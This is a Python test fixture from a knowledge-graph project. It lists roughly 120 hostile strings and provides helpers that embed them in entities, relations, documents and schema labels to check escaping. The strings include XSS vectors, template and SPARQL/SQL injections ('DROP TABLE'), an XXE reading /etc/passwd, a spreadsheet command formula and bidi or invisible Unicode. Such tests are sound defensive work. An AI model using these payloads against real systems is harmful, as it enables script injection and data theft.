"""120 strings that break what forgets to escape, the known classes in our own words; and graphs full of them.

Elements and handlers, links that run, templates, what ends a script or an attribute, character references,
characters nobody sees, lone surrogates, spreadsheet formulas, names JavaScript knows, patterns of replace(),
queries, and what is merely too long or too high.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from itertools import cycle
from typing import Final

from kg.indicators import to_concept
from kg.records import Entity, Evidence, Fact, Indicator, Knowledge, Observation, Relation, Source, Span
from kg.schema import Schema, load_schema
from tests.synthetic_graph import HUB, describe, digest
from tests.synthetic_words import TO_HUB

_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "<script type=module>import('//example.org/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)//",
    "<IMG SRC=`javascript:alert(1)`>",
    '"><svg onload=alert(1)>',
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//example.org/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>开</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<base href=//example.org/>",
    '<meta http-equiv="refresh" content="0;url=//example.org/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<link rel=stylesheet href="//example.org/x.css">',
    "<style>*{background:url(//example.org/x)}</style>",
    "<form action=//example.org/><button>提交</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<a\x0conmouseover=alert(1)>移",
    "<p style=position:fixed;inset:0>盖住全页</p>",
    "<h1 id=data>另一个数据岛</h1>",
)
_LINKS: Final = (
    '<a href="javascript:alert(1)">href</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//example.org/x.js",
    "[点这里](javascript:alert(1))",
    "https://example.org/\u202efdp.html",
)
_TEMPLATES: Final = (
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "${alert(1)}",
    "#{7*7} <%= 7*7 %> @(7*7)",
    "$title",
    "$$ ${data} $data $scripts",
    "%(title)s %s %n {0} {title}",
    "$& $` $' $1 $<name>",
    "[[7*7]] {%7*7%} *{7*7}",
)
_ENDINGS: Final = (
    "</script>",
    "</ScRiPt\n>",
    "<!--<script>",
    "<!-- 未闭合",
    "--><img src=x onerror=alert(1)>",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "\"'`\\",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "`-alert(1)-`",
    "\\",
    '\\"-alert(1)//',
    "';alert(1);//",
    '"}];alert(1);//',
    "*/alert(1)/*",
    "\\u003cscript>alert(1)\\u003c/script>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
)
_REFERENCES: Final = (
    "甲&amp;乙&lt;b&gt;丙",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&ltscript&gtalert(1)",
    "&#0;&#128;&#xD800;&nosuch;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
)
_UNSEEN: Final = (
    "行\u2028分\u2029隔",
    "倒\u202e着写\u202c的",
    "隔\u2066离\u2067未闭合",
    "零\u200b宽\u200d连\ufeff接",
    "\ud800孤立",
    "成对反了\udc00\ud800",
    "空\x00字符",
    "\x01\x02\x08\x0b\x1b[31m红\x1b[0m\x7f\x85",
    "\r\n换\r行\n",
    "שלום עולם مرحبا",
    "👩‍👩‍👧‍👦👨🏽‍💻🏳️‍🌈",
    "高" + "\u0301\u0302\u0303\u0323" * 40 + "新",
)
_FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"点")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1 －1 ＠SUM",
)
_NAMES: Final = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "prototype",
    "null",
)
_QUERIES: Final = (
    '" . <urn:x> <urn:y> "z"@zh ; a <http://www.w3.org/2002/07/owl#Thing> .',
    "<urn:x> <urn:y> <urn:z> . # 注释",
    "'''三引号\\n\"\"\"",
    "} INSERT DATA { <urn:x> <urn:y> 1 } #",
    "'; DROP TABLE entities; --",
)
HOSTILE: Final = (
    *(*_ELEMENTS, *_LINKS, *_TEMPLATES, *_ENDINGS, *_REFERENCES, *_UNSEEN, *_FORMULAS, *_NAMES, *_QUERIES),
    "高新" * 5_000,
)


def make_hostile(strings: Sequence[str]) -> Knowledge:
    """Make knowledge with an entity, a document, a relation and a figure for each string.

    A string is the name and the alias of its entity; role, time, origin and quote of its relation, the other
    end of which is HUB; indicator, unit, scope and period of its figure; name, title, date, publisher and
    author of its document. Types go round. The quote is shown as kg.text.tidy gives it.
    """
    kinds = [one.name for one in load_schema().types]
    predicates = [(name, *TO_HUB[name]) for name in kinds]
    entities, facts, sources = [], [], []
    indicators: dict[str, Indicator] = {}
    for number, text in enumerate(strings):
        kind, predicate, is_subject, _ = predicates[number % len(kinds)]
        entity = Entity(f"{kind.lower()}/{digest(number, text)}", kind, text, (text,))
        document = digest("document", number)
        proof = (Evidence(document, 0, Span(0, len(text)), text),)
        ends = (HUB.id, entity.id) if is_subject else (entity.id, HUB.id)
        said = Relation(ends[0], predicate, ends[1], proof, text, 0.5, role=text, time=text)
        figure = Observation(entity.id, text, number, text, text, None, proof, text, 0.5, scope=text)
        entities.append(entity)
        sources.append(Source(document, text, 0, text, text, text, (text,)))
        facts += [Fact(digest(*describe(one)), one, 1) for one in (said, figure)]
        indicators[to_concept(text)] = Indicator(to_concept(text), text)
    return Knowledge(
        tuple(sources),
        tuple(sorted((HUB, *entities), key=lambda one: one.id)),
        tuple(sorted(facts, key=lambda one: one.id)),
        tuple(indicators[key] for key in sorted(indicators)),
    )


def make_hostile_schema(strings: Sequence[str]) -> Schema:
    """Give the schema with such strings as the labels of its types and predicates, in both languages."""
    schema = load_schema()
    label = cycle(strings)
    types = tuple(replace(one, label_zh=next(label), label_en=next(label)) for one in schema.types)
    predicates = tuple(replace(one, label_zh=next(label), label_en=next(label)) for one in schema.predicates)
    return replace(schema, types=types, predicates=predicates)
